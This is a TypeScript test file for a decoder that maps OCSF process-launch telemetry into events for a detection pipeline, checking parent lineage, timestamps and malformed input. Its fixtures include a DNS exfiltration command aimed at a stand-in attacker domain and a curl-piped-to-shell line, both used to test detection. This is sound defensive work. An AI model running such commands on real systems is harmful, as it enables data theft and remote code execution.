import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { DecodeOutput, RawRecord } from "../../../lib/telemetry/decoder.js";
import type { ExecEvent } from "../../../lib/telemetry/exec-event.js";
import { datadogCwsDecoder } from "../../../lib/telemetry/sources/datadog-cws.js";
import { ecsDecoder } from "../../../lib/telemetry/sources/ecs.js";
import { toEpochMsScaled } from "../../../lib/telemetry/sources/json-access.js";
import { ocsfProcessDecoder, splitCommandLine } from "../../../lib/telemetry/sources/ocsf-process.js";
import { detect } from "../../helpers/exec-events.js";
import { assertSurvivesMutations } from "../../helpers/fuzz-json.js";
import { readSample } from "../../helpers/samples.js";

const ctx = { defaultHost: "stream-host" };

// Raw text matters only for quarantine; a value too deep to stringify still gets a record.
const record = (value: unknown): RawRecord => {
  try {
    return { text: JSON.stringify(value) ?? "", line: 5 };
  } catch {
    return { text: "<too deep>", line: 5 };
  }
};
const decode = (value: unknown): DecodeOutput => ocsfProcessDecoder.decode(value, record(value), ctx);
const eventOf = (value: unknown): ExecEvent => {
  const out = decode(value);
  if (out.kind !== "event") throw new Error(`${out.kind}: ${out.reason}`);
  return out.event;
};

type Json = Record<string, unknown>;

const upstreamText = readSample("upstream/ocsf/ocsf-docs_process_activity_launch_1007.json");
const upstream = (): Json => JSON.parse(upstreamText);

const T1 = Date.parse("2025-03-04T10:15:29.950Z");
const T2 = Date.parse("2025-03-04T10:15:30.512Z");

/**
 * Built for these tests from the OCSF 1.3 schema (Process Activity 1007; process, process_entity, device,
 * user, metadata objects): what a Linux sensor writes for `sh /tmp/x.sh` launched from an ssh login shell.
 */
const launchSh = (): Json => ({
  activity_id: 1,
  activity_name: "Launch",
  category_uid: 1,
  category_name: "System Activity",
  class_uid: 1007,
  class_name: "Process Activity",
  type_uid: 100701,
  type_name: "Process Activity: Launch",
  severity_id: 1,
  severity: "Informational",
  status_id: 1,
  status: "Success",
  time: T1,
  metadata: {
    version: "1.3.0",
    uid: "evt-4242-launch",
    product: { name: "Example Linux Sensor", vendor_name: "Example" },
  },
  device: {
    hostname: "web-01",
    uid: "i-0123456789abcdef0",
    type_id: 1,
    type: "Server",
    os: { name: "Ubuntu", type: "Linux", type_id: 200 },
  },
  actor: {
    process: { pid: 4100, uid: "ent-4100", cmd_line: "-bash", file: { path: "/usr/bin/bash", name: "bash" } },
    user: { uid: "1000", name: "alice" },
  },
  process: {
    pid: 4242,
    uid: "ent-4242",
    cmd_line: "sh /tmp/x.sh",
    created_time: T1 - 50,
    working_directory: "/home/alice",
    file: { path: "/usr/bin/dash", name: "dash", type_id: 1, type: "Regular File" },
    user: { uid: "1000", name: "alice" },
    parent_process: {
      pid: 4100,
      uid: "ent-4100",
      cmd_line: "-bash",
      file: { path: "/usr/bin/bash", name: "bash" },
    },
  },
});

/** The script's `nslookup`, its parent named by pid and uid only (as sensors that keep events small do). */
const launchNslookup = (): Json => ({
  ...launchSh(),
  time: T2,
  metadata: {
    version: "1.3.0",
    uid: "evt-4243-launch",
    product: { name: "Example Linux Sensor", vendor_name: "Example" },
  },
  actor: { process: { pid: 4242, uid: "ent-4242" }, user: { uid: "1000", name: "alice" } },
  process: {
    pid: 4243,
    uid: "ent-4243",
    cmd_line: "nslookup c2VjcmV0.exfil.attacker.example",
    created_time: T2 - 10,
    working_directory: "/home/alice",
    file: { path: "/usr/bin/nslookup", name: "nslookup" },
    user: { uid: "1000", name: "alice" },
    parent_process: { pid: 4242, uid: "ent-4242" },
  },
});

const proc = (value: Json): Json => value["process"] as Json;

describe("ocsfProcessDecoder on the upstream sample (OCSF 1.4, Windows)", () => {
  it("decodes the launch, with the parent and not the creator", () => {
    const value = upstream();
    expect(ocsfProcessDecoder.matches(value)).toBe(true);
    expect(eventOf(value)).toEqual({
      host: { name: "test hostname" },
      user: {},
      process: {
        pid: 14148,
        // process.parent_process (explorer.exe), not actor.process (cuckoo.exe, pid 61320, the creator)
        ppid: 7956,
        executable: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        args: ["powershell", "-command", "echo Hello."],
        start: 1738271124954,
        entityId: "a5f0e1f1-8e89-8b58-98ea-3d5ba1a3d07e",
      },
      parent: {
        pid: 7956,
        executable: "C:\\Windows\\explorer.exe",
        args: ["C:\\windows\\Explorer.EXE"],
        entityId: "2d7576cb-b5f9-8eee-b209-2022749157d1",
      },
      // process.ancestry holds only the parent (ancestry[0] is the direct parent): nothing beyond it.
      time: 1738271124958,
      source: { format: "ocsf", eventId: "test hostname:14148:1738271124958" },
    });
  });

  it("takes the ancestry beyond the parent, nearest first", () => {
    const value = upstream();
    const ancestry = proc(value)["ancestry"] as Json[];
    ancestry.push(
      { cmd_line: "C:\\Windows\\system32\\userinit.exe", pid: 7900, uid: "u-7900" },
      // A pid-only entry (the process has exited): no file to look at.
      { pid: 640, uid: "u-640" },
      { cmd_line: '"C:\\Program Files\\x\\winlogon.exe" -s', pid: 612, uid: "u-612" },
    );
    expect(eventOf(value).ancestors).toEqual([
      {
        pid: 7900,
        executable: "C:\\Windows\\system32\\userinit.exe",
        args: ["C:\\Windows\\system32\\userinit.exe"],
      },
      {
        pid: 612,
        executable: "C:\\Program Files\\x\\winlogon.exe",
        args: ["C:\\Program Files\\x\\winlogon.exe", "-s"],
      },
    ]);
  });

  it("uses actor.process as the parent when there is no parent_process", () => {
    const value = upstream();
    delete proc(value)["parent_process"];
    const event = eventOf(value);
    expect(event.parent).toMatchObject({ pid: 61320, entityId: "2b2de22a-2818-8819-8bdb-67379aa6b98b" });
    expect(event.parent?.args).toEqual(["cuckoo.exe", "7956", "powershell", "-command", "echo Hello."]);
    expect(event.process.ppid).toBe(61320);
  });

  it("uses the creator's ancestry when the process has none", () => {
    const value = upstream();
    delete proc(value)["parent_process"];
    delete proc(value)["ancestry"];
    // The creator's ancestry starts at the creator's parent: all of it lies beyond our parent.
    expect(eventOf(value).ancestors?.map((a) => a.pid)).toEqual([43548, 10464, 7956]);
    expect(eventOf(value).ancestors?.[1]?.executable).toBe(
      "C:\\Program Files\\WindowsApps\\Microsoft.WindowsTerminal_1.21.3231.0_x64__8wekyb3d8bbwe\\WindowsTerminal.exe",
    );
  });
});

describe("ocsfProcessDecoder on Linux launches", () => {
  it("decodes a launch", () => {
    expect(eventOf(launchSh())).toEqual({
      host: { name: "web-01", id: "i-0123456789abcdef0" },
      user: { id: "1000", name: "alice" },
      process: {
        pid: 4242,
        ppid: 4100,
        executable: "/usr/bin/dash",
        args: ["sh", "/tmp/x.sh"],
        cwd: "/home/alice",
        start: T1 - 50,
        entityId: "ent-4242",
      },
      parent: { pid: 4100, executable: "/usr/bin/bash", args: ["-bash"], entityId: "ent-4100" },
      time: T1,
      source: { format: "ocsf", eventId: "evt-4242-launch" },
    });
  });

  it("turns the /tmp script that runs nslookup into an alert, through the batch pipeline", async () => {
    const events = [launchSh(), launchNslookup()].map(eventOf);
    const { alerts } = await detect(events);
    expect(alerts).toHaveLength(1);
    expect(alerts[0]?.utility.name).toBe("nslookup");
    expect(alerts[0]?.location).toMatchObject({ path: "/tmp/x.sh", kind: "script", depth: 1 });
    expect(alerts[0]?.source).toEqual({ format: "ocsf", eventId: "evt-4243-launch" });
  });

  it("needs the parent's launch when the event names the parent by id only", async () => {
    expect((await detect([eventOf(launchNslookup())])).alerts).toHaveLength(0);
  });

  it("does not take another image's record as the parent (process.uid guards PID reuse)", async () => {
    const nslookup = launchNslookup();
    (proc(nslookup)["parent_process"] as Json)["uid"] = "ent-4242-reused";
    (nslookup["actor"] as { process: Json }).process["uid"] = "ent-4242-reused";
    expect((await detect([eventOf(launchSh()), eventOf(nslookup)])).alerts).toHaveLength(0);
  });

  it("finds the script from the 1.4 ancestry alone", async () => {
    const nslookup = launchNslookup();
    proc(nslookup)["ancestry"] = [
      { pid: 4242, uid: "ent-4242", cmd_line: "sh /tmp/x.sh", created_time: T1 - 50 },
      { pid: 4100, uid: "ent-4100", cmd_line: "-bash" },
    ];
    const event = eventOf(nslookup);
    // ancestry[0] is the parent: it fills the parent in, and is not repeated as an ancestor.
    expect(event.parent).toEqual({
      pid: 4242,
      executable: "sh",
      args: ["sh", "/tmp/x.sh"],
      entityId: "ent-4242",
    });
    expect(event.ancestors).toEqual([{ pid: 4100, executable: "-bash", args: ["-bash"] }]);
    const { alerts } = await detect([event]);
    expect(alerts[0]?.location).toMatchObject({ path: "/tmp/x.sh", kind: "script" });
  });

  it("finds an ancestor in the deprecated lineage paths", async () => {
    const nslookup = launchNslookup();
    // The schema's example order: root first, the process itself last.
    proc(nslookup)["lineage"] = [
      "/usr/lib/systemd/systemd",
      "/usr/sbin/sshd",
      "/tmp/.x/loader",
      "/usr/bin/nslookup",
    ];
    const event = eventOf(nslookup);
    expect(event.ancestors?.map((a) => a.executable)).toEqual([
      "/tmp/.x/loader",
      "/usr/sbin/sshd",
      "/usr/lib/systemd/systemd",
    ]);
    const { alerts } = await detect([event]);
    expect(alerts[0]?.location).toMatchObject({ path: "/tmp/.x/loader", kind: "ancestor" });
  });

  it.each([
    [
      "root first, self last",
      ["/sbin/init", "/usr/bin/bash", "/usr/bin/nslookup"],
      ["/usr/bin/bash", "/sbin/init"],
    ],
    [
      "nearest first, self first",
      ["/usr/bin/nslookup", "/usr/bin/bash", "/sbin/init"],
      ["/usr/bin/bash", "/sbin/init"],
    ],
    ["no self: the example's order", ["/sbin/init", "/usr/bin/bash"], ["/usr/bin/bash", "/sbin/init"]],
  ])("orders lineage paths (%s)", (_name, lineage, expected) => {
    const value = launchNslookup();
    proc(value)["lineage"] = lineage;
    expect(eventOf(value).ancestors?.map((a) => a.executable)).toEqual(expected);
  });

  it("follows parents nested in parent_process", () => {
    const value = launchSh();
    (proc(value)["parent_process"] as Json)["parent_process"] = {
      pid: 4000,
      cmd_line: "sshd: alice [priv]",
      file: { path: "/usr/sbin/sshd" },
      parent_process: { pid: 1, file: { path: "/usr/lib/systemd/systemd" } },
    };
    expect(eventOf(value).ancestors).toEqual([
      { pid: 4000, executable: "/usr/sbin/sshd", args: ["sshd:", "alice", "[priv]"] },
      { pid: 1, executable: "/usr/lib/systemd/systemd" },
    ]);
  });

  it.each([
    ["nginx", "1.27", "nginx:1.27"],
    ["nginx:1.27", "1.27", "nginx:1.27"],
    ["registry:5000/nginx", "1.27", "registry:5000/nginx:1.27"],
    ["nginx@sha256:0d17", "1.27", "nginx@sha256:0d17"],
    ["nginx", undefined, "nginx"],
  ])("reads the container of the process (image %s, tag %s)", (name, tag, image) => {
    const value = launchSh();
    proc(value)["container"] = { uid: "4f1a9c0b2d3e", name: "web", image: { name, tag } };
    expect(eventOf(JSON.parse(JSON.stringify(value))).container).toEqual({ id: "4f1a9c0b2d3e", image });
  });

  it("reads the event's container when the process has none", () => {
    const value = launchSh();
    value["container"] = { uid: "4f1a9c0b2d3e" };
    expect(eventOf(value).container).toEqual({ id: "4f1a9c0b2d3e" });
  });
});

describe("ocsfProcessDecoder traps", () => {
  const withTime = (edit: (value: Json) => void): Json => {
    const value = launchSh();
    edit(value);
    return value;
  };

  it.each([
    ["epoch ms", (v: Json) => (v["time"] = T2), T2],
    ["epoch ms as a string", (v: Json) => (v["time"] = String(T2)), T2],
    ["epoch seconds", (v: Json) => (v["time"] = T2 / 1000), T2],
    ["epoch seconds, whole", (v: Json) => (v["time"] = Math.floor(T2 / 1000)), Math.floor(T2 / 1000) * 1000],
    ["epoch µs", (v: Json) => (v["time"] = T2 * 1000), T2],
    ["epoch ns as a string", (v: Json) => (v["time"] = `${T2}000000`), T2],
    [
      "time_dt only (datetime profile)",
      (v: Json) => {
        delete v["time"];
        v["time_dt"] = "2025-03-04T10:15:30.512Z";
      },
      T2,
    ],
    ["an ISO string in time", (v: Json) => (v["time"] = "2025-03-04T11:15:30.512+01:00"), T2],
  ])("event time as %s", (_name, edit, expected) => {
    expect(eventOf(withTime(edit)).time).toBe(expected);
  });

  it.each([
    ["seconds", (T1 - 50) / 1000, T1 - 50],
    ["ISO in created_time_dt", undefined, Date.parse("2025-03-04T10:15:29.900Z")],
    ["0 (unknown)", 0, undefined],
  ])("process start as %s", (_name, created, expected) => {
    const value = launchSh();
    if (created === undefined) {
      delete proc(value)["created_time"];
      proc(value)["created_time_dt"] = "2025-03-04T10:15:29.900Z";
    } else proc(value)["created_time"] = created;
    expect(eventOf(value).process.start).toBe(expected);
  });

  it.each([
    ["an empty parent_process", {}],
    ["a null parent_process", null],
  ])("keeps a launch with %s: ppid 0, no parent", (_name, parent) => {
    const value = launchSh();
    proc(value)["parent_process"] = parent;
    delete value["actor"];
    const event = eventOf(value);
    expect(event.process.ppid).toBe(0);
    expect(event.parent).toBeUndefined();
    expect(event.ancestors).toBeUndefined();
  });

  it("keeps a parent without a pid in the ancestors", () => {
    const value = launchSh();
    proc(value)["parent_process"] = { file: { path: "/tmp/.loader" } };
    delete value["actor"];
    const event = eventOf(value);
    expect(event.parent).toBeUndefined();
    expect(event.ancestors).toEqual([{ executable: "/tmp/.loader" }]);
  });

  it("flags a command line longer than the args kept", () => {
    const value = launchSh();
    proc(value)["cmd_line"] = `sh${" x".repeat(5000)}`;
    const event = eventOf(value);
    expect(event.process.argsTruncated).toBe(true);
    expect(event.process.args).toHaveLength(4096);
  });

  it("reads an empty cmd_line as unknown, not as an empty argv[0]", () => {
    const value = launchSh();
    proc(value)["cmd_line"] = "";
    expect(eventOf(value).process.args).toEqual([]);
  });

  it("turns a Terminate into a process exit", () => {
    const value = launchSh();
    value["activity_id"] = 2;
    value["activity_name"] = "Terminate";
    proc(value)["terminated_time"] = T2;
    expect(decode(value)).toEqual({
      kind: "skipped",
      line: 5,
      reason: "ocsf: process terminate",
      exit: { host: "web-01", pid: 4242, time: T2, entityId: "ent-4242" },
    });
  });

  it("takes the activity from type_uid when activity_id is absent", () => {
    const value = launchSh();
    delete value["activity_id"];
    value["type_uid"] = 100702;
    expect(decode(value)).toMatchObject({ kind: "skipped", exit: { pid: 4242, time: T1 } });
  });

  it.each([
    [3, "Open"],
    [4, "Inject"],
    [5, "Set User ID"],
    [0, "Unknown"],
    [99, "Other"],
  ])("skips activity %i (%s)", (id, name) => {
    const value = launchSh();
    value["activity_id"] = id;
    value["activity_name"] = name;
    expect(decode(value)).toEqual({
      kind: "skipped",
      line: 5,
      reason: `ocsf: activity ${id} ("${name}") is not a launch`,
    });
  });

  it("skips a failed launch", () => {
    const value = launchSh();
    value["status_id"] = 2;
    expect(decode(value)).toMatchObject({ kind: "skipped", reason: "ocsf: failed launch" });
  });

  it("skips other OCSF classes", () => {
    const value = launchSh();
    value["class_uid"] = 1001;
    expect(decode(value)).toMatchObject({
      kind: "skipped",
      reason: "ocsf: class_uid 1001 is not Process Activity (1007)",
    });
  });

  it("builds a composite event id without metadata.uid", () => {
    const value = launchSh();
    delete value["metadata"];
    expect(eventOf(value).source.eventId).toBe(`web-01:4242:${T1}`);
  });

  it.each([
    ["device.name", { name: "web-02" }, { name: "web-02" }],
    ["device.uid only", { uid: "i-0abc" }, { name: "i-0abc", id: "i-0abc" }],
    ["no device", undefined, { name: "stream-host" }],
  ])("takes the host from %s", (_name, device, expected) => {
    const value = launchSh();
    if (device === undefined) delete value["device"];
    else value["device"] = device;
    expect(eventOf(value).host).toEqual(expected);
  });

  it("falls back to the file name when there is no path", () => {
    const value = launchSh();
    proc(value)["file"] = { name: "dash" };
    expect(eventOf(value).process.executable).toBe("dash");
  });
});

describe("splitCommandLine", () => {
  it.each([
    ['powershell -command "echo Hello."', ["powershell", "-command", "echo Hello."]],
    ['"C:\\Program Files\\x\\y.exe" ', ["C:\\Program Files\\x\\y.exe"]],
    ["C:\\windows\\Explorer.EXE", ["C:\\windows\\Explorer.EXE"]],
    ["sh -c 'curl http://x | sh'", ["sh", "-c", "curl http://x | sh"]],
    ['echo "a \\"b\\" c"', ["echo", 'a "b" c']],
    ["ls /tmp/a\\ b", ["ls", "/tmp/a b"]],
    ["  a \t b  ", ["a", "b"]],
    ['x "" y', ["x", "", "y"]],
    ["a'b c'd", ["ab cd"]],
    ["unterminated 'quote here", ["unterminated", "quote here"]],
    ["", []],
  ])("%j", (line, expected) => {
    expect(splitCommandLine(line)).toEqual({ args: expected, truncated: false });
  });
});

describe("toEpochMsScaled", () => {
  it.each([
    [1741083330, 1741083330000],
    [1741083330.512, 1741083330512],
    [1741083330512, 1741083330512],
    [1741083330512345, 1741083330512],
    ["1741083330512345678", 1741083330512],
    ["2025-03-04T10:15:30.512345678Z", 1741083330512],
    [-1, undefined],
    ["yesterday", undefined],
    [{}, undefined],
  ])("%j → %j", (value, expected) => {
    expect(toEpochMsScaled(value)).toBe(expected);
  });
});

describe("ocsfProcessDecoder on hostile data", () => {
  let deep: unknown = "bottom";
  for (let i = 0; i < 100_000; i++) deep = { pid: i, file: { path: `/p/${i}` }, parent_process: deep };

  it.each([
    ["not an object", "launch", "ocsf: record is not a JSON object"],
    ["class_uid missing", { process: {} }, "ocsf: class_uid is missing"],
    ["class_uid an object", { class_uid: {} }, "ocsf: class_uid is not a number"],
    ["activity_id a string", { ...launchSh(), activity_id: "launch" }, "ocsf: activity_id is not a number"],
    ["process missing", { ...launchSh(), process: undefined }, "ocsf: process is missing"],
    ["process an array", { ...launchSh(), process: [] }, "ocsf: process is not an object"],
    ["time garbage", { ...launchSh(), time: "soon" }, "ocsf: time is not a timestamp"],
    ["time missing", { ...launchSh(), time: undefined }, "ocsf: time is missing"],
    [
      "pid a fraction",
      { ...launchSh(), process: { ...proc(launchSh()), pid: 1.5 } },
      "ocsf: process.pid is not a number",
    ],
    ["pid missing", { ...launchSh(), process: { cmd_line: "sh" } }, "ocsf: process.pid is missing"],
    [
      "cmd_line a number",
      { ...launchSh(), process: { ...proc(launchSh()), cmd_line: 7 } },
      "ocsf: process.cmd_line is not a string",
    ],
    ["no file at all", { ...launchSh(), process: { pid: 4 } }, "ocsf: process.file.path is missing"],
    [
      "parent_process a string",
      { ...launchSh(), process: { ...proc(launchSh()), parent_process: "bash" } },
      "ocsf: process.parent_process is not an object",
    ],
    [
      "parent pid an array",
      { ...launchSh(), process: { ...proc(launchSh()), parent_process: { pid: [1] } } },
      "ocsf: process.parent_process.pid is not a number",
    ],
  ])("%s → malformed", (_name, value, reason) => {
    expect(decode(JSON.parse(JSON.stringify(value) ?? "null"))).toMatchObject({ kind: "malformed", reason });
  });

  it("stops following nested parents", () => {
    const value = launchSh();
    proc(value)["parent_process"] = deep;
    const event = eventOf(value);
    expect(event.parent?.pid).toBe(99_999);
    // The parent and 15 more: the lineage keeps 16 levels.
    expect(event.ancestors).toHaveLength(15);
  });

  it("matches Process Activity only, and no other source", () => {
    expect(ocsfProcessDecoder.matches({ class_uid: "1007" })).toBe(true);
    expect(ocsfProcessDecoder.matches({ class_uid: 1001, process: {} })).toBe(false);
    expect(ocsfProcessDecoder.matches([{ class_uid: 1007 }])).toBe(false);
    expect(ecsDecoder.matches(upstream())).toBe(false);
    expect(ecsDecoder.matches(launchSh())).toBe(false);
    expect(datadogCwsDecoder.matches(upstream())).toBe(false);
    expect(datadogCwsDecoder.matches(launchSh())).toBe(false);
  });

  it("never throws, whatever the value", () => {
    fc.assert(
      fc.property(fc.anything(), (value) => {
        expect(["event", "skipped", "malformed"]).toContain(decode(value).kind);
      }),
    );
  });

  it.each([
    ["the upstream sample", upstream()],
    ["the Linux launch", launchSh()],
  ])("never throws when any field of %s holds anything", (_name, fixture) => {
    assertSurvivesMutations(fixture, decode);
  });
});
